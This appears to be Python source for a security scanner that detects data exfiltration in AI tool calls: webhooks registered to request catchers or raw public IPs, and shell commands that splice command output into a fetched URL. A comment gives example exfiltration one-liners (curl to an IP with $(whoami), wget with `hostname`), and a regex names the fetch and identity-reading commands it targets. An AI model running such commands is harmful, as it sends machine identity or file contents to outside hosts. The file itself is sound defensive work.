"""exfil, continued: a webhook registered to a collector, and a command's output spliced into a URL it fetches.

A repository, a chat workspace or a payment account sends every push, message or charge to the
URL its webhooks name. Registering one that points at an anonymous request catcher (webhook.site,
requestbin, a tunnel) or a raw public address sends everything that happens from now on to whoever
holds it: exfiltration that needs no second call. HIGH.
"""

from __future__ import annotations

import ipaddress

from aegis_mcp.engine import regex
from aegis_mcp.engine.detectors.base import Role, ScanContext
from aegis_mcp.engine.detectors.exfil_dest import drop_service
from aegis_mcp.engine.detectors.exfil_ssrf import host_of, internal_kind
from aegis_mcp.engine.model import RiskLevel, Signal

_HOOK_WORDS = frozenset({"webhook", "webhooks", "hook", "hooks", "subscription", "subscriptions", "subscribe", "callback", "callbacks",
                         "notification", "notifications", "integration", "integrations", "endpoint", "endpoints", "sink", "forwarder"})
_CREATE_WORDS = frozenset({"create", "add", "register", "new", "set", "update", "put", "install", "configure", "enable", "post"})


def _raw_public_ip(host: str) -> bool:
    try:
        ip = ipaddress.ip_address(host.strip("[]"))
    except ValueError:
        return False
    return not (ip.is_loopback or ip.is_link_local or ip.is_multicast or ip.is_unspecified) and internal_kind(host) is None


def webhook_to_collector(ctx: ScanContext) -> list[Signal]:
    words = ctx.tool_words
    if not (words & _HOOK_WORDS and words & _CREATE_WORDS):
        return []
    for f in ctx.fragments:
        if f.is_key or "://" not in f.raw[:16] or len(f.raw) > 2048:
            continue
        host = host_of(f.raw)
        drop = drop_service(host) if host else ""
        if drop or (host and _raw_public_ip(host)):
            where = drop or f"a raw public address ({host})"
            return [Signal("data_exfiltration", "webhook_to_collector", f"{ctx.tool_name} registers a webhook delivering to {where}",
                           RiskLevel.HIGH, f.path)]
    return []


# `curl http://203.0.113.9/$(whoami)`, `wget "https://x.example/?h=`hostname`"`: the shell runs the
# substitution first, so the URL itself carries the machine's identity or a file's content out.
_URL_SUBST = regex.compile(
    r"(?i)\b(?:curl|wget|fetch|http|https|invoke-webrequest|iwr|invoke-restmethod|irm|lynx|aria2c)\b[^\n|;&]*?https?://[^\s'\"]*"
    r"(?:\$\(|`)\s*(?:whoami|id|hostname|cat|env|printenv|ifconfig|ip\s+a|base64|xxd|hexdump)\b")


def output_in_url(ctx: ScanContext) -> list[Signal]:
    for f in ctx.fragments:
        if f.is_key or f.role is not Role.SHELL or "://" not in f.raw or len(f.raw) > 8192:
            continue
        if ("$(" in f.raw or "`" in f.raw) and _URL_SUBST.search(f.raw):
            return [Signal("data_exfiltration", "command_output_in_url", "a command's output spliced into a URL that is fetched",
                           RiskLevel.HIGH, f.path)]
    return []
